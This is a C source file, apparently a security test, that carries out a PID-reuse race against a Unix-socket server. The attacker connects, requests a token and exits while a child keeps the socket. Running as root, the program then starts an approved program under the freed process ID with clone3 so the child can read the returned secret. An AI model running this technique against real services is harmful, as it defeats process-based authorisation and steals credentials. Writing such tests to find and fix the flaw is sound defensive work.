/* Row 2: connects, asks, leaves the socket to a child and dies; then an approved program gets its process number.
 * Numbers come round by themselves when enough processes are started. To have it 200 times, the test runs this as root,
 * and root does nothing but play chance: it starts the approved program, as the attacker's user, under that number.
 *
 *   attack-pid-reuse SOCKET TRIES APPROVED USER
 */
#include "attack-common.h"
#include <linux/sched.h>

static pid_t start_as_number(pid_t number)
{
    struct clone_args how = { .exit_signal = SIGCHLD, .set_tid = (uintptr_t)&number, .set_tid_size = 1 };
    return (pid_t)syscall(SYS_clone3, &how, sizeof how);
}

static void attempt(const char *path, const char *approved, uid_t user, pid_t server)
{
    int go[2], gone[2];
    char c;
    if (pipe2(go, O_CLOEXEC) != 0 || pipe2(gone, O_CLOEXEC) != 0)
        die("pipe");
    freeze(server);
    pid_t attacker = fork();
    if (attacker == 0) {
        become(user);
        int fd = dial(path);
        say(fd, READ_TOKEN);
        if (fork() != 0)
            _exit(0);
        close(go[1]);
        if (read(go[0], &c, 1) != 0)
            die("go");
        report(hear(fd, "\"value\"", 3000));
        _exit(0);
    }
    if (waitpid(attacker, NULL, 0) != attacker)
        die("waitpid");
    close(gone[1]);
    pid_t approved_one = start_as_number(attacker);
    if (approved_one == 0) {
        become(user);
        execl(approved, approved, path, "pause", (char *)NULL);
        die("exec");
    }
    if (approved_one < 0)
        die("clone3");
    await_exec(approved_one);
    thaw(server);
    close(go[1]);
    /* Held open by the child that has the socket, until it has heard enough. */
    struct pollfd wait = { gone[0], 0, 0 };
    poll(&wait, 1, 10000);
    kill(approved_one, SIGKILL);
    while (waitpid(-1, NULL, 0) > 0)
        ;
    close(go[0]);
    close(gone[0]);
}

int main(int count, char **arguments)
{
    if (count < 5)
        return 2;
    pid_t server = server_of(arguments[1]);
    prctl(PR_SET_CHILD_SUBREAPER, 1);
    for (int tries = atoi(arguments[2]); tries > 0; tries--)
        attempt(arguments[1], arguments[3], (uid_t)atoi(arguments[4]), server);
    return 0;
}
